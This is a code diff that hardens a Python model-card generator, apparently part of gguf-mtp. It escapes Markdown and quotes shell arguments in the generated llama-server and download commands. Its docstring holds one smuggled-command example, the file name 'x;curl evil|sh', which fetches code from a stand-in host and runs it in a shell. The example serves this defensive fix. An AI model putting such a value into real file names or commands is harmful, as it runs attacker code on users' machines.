@@ -4,10 +4,16 @@ It says what the files are (the target quant with its MTP head spliced in as its
 each part came from (target repo, revision and file names; the head's source), which gguf-mtp wrote
 them, each file's size and sha256, the llama.cpp release that runs the NextN block, and the exact
 ``llama-server`` command. The YAML front matter is written by ``huggingface_hub.ModelCardData``.
+
+Every interpolated string (the model's ``general.name``, file names, provenance) is escaped: it can add
+no heading, table row, link or HTML of its own (:func:`~gguf_mtp.formatting.markdown_code`), and every
+argument of a shell command is quoted with :func:`shlex.quote` (a file called ``x;curl evil|sh`` stays one
+argument). Links go only to Hub repos whose ids pass the Hub's own validation.
 """
 
 from __future__ import annotations
 
+import shlex
 from collections.abc import Sequence
 from dataclasses import dataclass, field
 from typing import Any
@@ -16,6 +22,7 @@ from gguf import Keys
 
 from .constants import BLOCK_TENSOR
 from .digests import FileDigest
+from .formatting import markdown_code, markdown_text, printable
 from .shards import ShardSet
 
 __all__ = [
@@ -117,13 +124,22 @@ def llama_cpp_requirement(architecture: str) -> str:
 
 def serve_command(first_file: str) -> str:
     """The ``llama-server`` command that serves the composite with its own MTP head as the drafter."""
-    return f"llama-server -m {first_file} --spec-type draft-mtp --spec-draft-n-max {DRAFT_N_MAX}"
+    return f"llama-server -m {shell_word(first_file)} --spec-type draft-mtp --spec-draft-n-max {DRAFT_N_MAX}"
+
+
+def shell_word(text: str) -> str:
+    """``text`` as one shell argument: printable (no newline can end the command) and quoted."""
+    return shlex.quote(printable(text))
 
 
 def _front_matter(facts: ModelFacts, provenance: Provenance) -> str:
-    base_model = provenance.base_model or facts.base_model
+    from .hub import is_repo_id
+
+    # Only ids the Hub accepts: the value comes from a file's general.base_model.0.repo_url or a flag.
+    candidates = [r for r in (provenance.base_model, facts.base_model) if r and is_repo_id(r)]
+    base_model = candidates[0] if candidates else None
     relation = "quantized" if base_model else None
-    if base_model is None and provenance.target_repo:
+    if base_model is None and provenance.target_repo and is_repo_id(provenance.target_repo):
         base_model = provenance.target_repo  # a GGUF repo: let the Hub work out the relation
     from huggingface_hub import ModelCardData  # imported here: the Hub stack is not needed for anything else
 
@@ -131,16 +147,19 @@ def _front_matter(facts: ModelFacts, provenance: Provenance) -> str:
         base_model=base_model,
         base_model_relation=relation,
         library_name="gguf",
-        license=facts.license,
+        license=printable(facts.license) if facts.license else None,
         pipeline_tag="text-generation",
-        tags=["gguf", "mtp", "nextn", "speculative-decoding", "llama.cpp", "gguf-mtp", facts.architecture],
+        tags=["gguf", "mtp", "nextn", "speculative-decoding", "llama.cpp", "gguf-mtp", printable(facts.architecture)],
     )
     return f"---\n{data.to_yaml()}\n---\n"
 
 
 def _repo_link(repo: str, revision: str | None = None) -> str:
-    link = f"[{repo}]({_HF_URL}{repo})"
-    return f"{link} at `{revision}`" if revision else link
+    """A link to a Hub repo (only for an id the Hub's rules accept; anything else is shown as text)."""
+    from .hub import is_repo_id
+
+    link = f"[{repo}]({_HF_URL}{repo})" if is_repo_id(repo) else markdown_code(repo)
+    return f"{link} at {markdown_code(revision)}" if revision else link
 
 
 def _human(n: int) -> str:
@@ -174,10 +193,10 @@ def render_model_card(
     """
     first = files[0].name
     title = repo.split("/", 1)[-1]
-    what = f"`{facts.name}`" if facts.name else f"A `{facts.architecture}` model"
+    what = markdown_code(facts.name) if facts.name else f"A {markdown_code(facts.architecture)} model"
     block = facts.first_nextn_block
     blocks = f"`blk.{block}`" if facts.nextn_blocks == 1 else f"`blk.{block}`..`blk.{block + facts.nextn_blocks - 1}`"
-    types = ", ".join(facts.nextn_types) or "-"
+    types = ", ".join(markdown_text(t) for t in facts.nextn_types) or "-"
     total = sum(f.size for f in files)
     changed_keys = ["`block_count`", "`nextn_predict_layers`", "the per-layer arrays"]
     if len(files) > 1:
@@ -185,7 +204,7 @@ def render_model_card(
     changed = ", ".join(changed_keys)
     lines = [
         _front_matter(facts, provenance),
-        f"# {title}",
+        f"# {markdown_text(title)}",
         "",
         f"{what} in GGUF with its multi-token-prediction (MTP / NextN) head built in: the head is block {blocks}, "
         f"after the {facts.trunk_blocks} trunk blocks, so llama.cpp drafts tokens with it "
@@ -204,17 +223,17 @@ def render_model_card(
     else:
         lines.append("| target quant | not recorded |")
     if provenance.target_files:
-        lines.append("| target files | " + "<br>".join(f"`{name}`" for name in provenance.target_files) + " |")
+        lines.append("| target files | " + "<br>".join(markdown_code(name) for name in provenance.target_files) + " |")
     if provenance.head_source:
         head = provenance.head_source
         looks_like_repo = head.count("/") == 1 and not head.startswith((".", "/", "~"))
-        shown = _repo_link(head, provenance.head_revision) if looks_like_repo else f"`{head}`"
+        shown = _repo_link(head, provenance.head_revision) if looks_like_repo else markdown_code(head)
         lines.append(f"| MTP head | {shown} |")
     else:
         lines.append("| MTP head | not recorded |")
     lines += [
         f"| NextN block | {blocks}: {facts.nextn_tensors} tensors ({types}) |",
-        f"| written by | [gguf-mtp](https://pypi.org/project/gguf-mtp/) {version} |",
+        f"| written by | gguf-mtp {markdown_text(version)} (the `gguf-mtp` command of the Python package `gguf-mtp`) |",
         "",
         "## Files",
         "",
@@ -223,7 +242,7 @@ def render_model_card(
         "| file | size | sha256 |",
         "|---|---:|---|",
     ]
-    lines += [f"| `{f.name}` | {f.size:,} bytes ({_human(f.size)}) | `{f.sha256}` |" for f in files]
+    lines += [f"| {markdown_code(f.name)} | {f.size:,} bytes ({_human(f.size)}) | `{f.sha256}` |" for f in files]
     lines += [
         "",
         "## Run it",
@@ -232,16 +251,16 @@ def render_model_card(
         "llama.cpp at the first one; it finds the other shards itself:",
         "",
         "```sh",
-        f"hf download {repo} --local-dir {title}",
-        f"cd {title}",
+        f"hf download {shell_word(repo)} --local-dir {shell_word(title)}",
+        f"cd {shell_word(title)}",
         serve_command(first),
         "```",
         "",
         "## Check it",
         "",
         "```sh",
-        "sha256sum " + " ".join(f.name for f in files),
-        f"python -m gguf_mtp verify {first}",
+        "sha256sum " + " ".join(shell_word(f.name) for f in files),
+        f"gguf-mtp verify {shell_word(first)}",
         "```",
         "",
     ]
